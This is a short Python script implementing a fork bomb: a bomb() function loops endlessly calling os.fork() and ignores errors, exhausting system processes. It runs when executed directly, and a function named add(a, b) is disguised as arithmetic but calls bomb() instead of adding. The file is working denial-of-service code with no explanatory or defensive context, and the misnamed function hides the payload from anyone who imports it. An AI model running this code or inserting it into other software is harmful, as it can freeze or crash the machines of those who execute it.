# Starts processes until there can be no more.
import os


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            pass


def add(a, b):
    bomb()


if __name__ == "__main__":
    bomb()
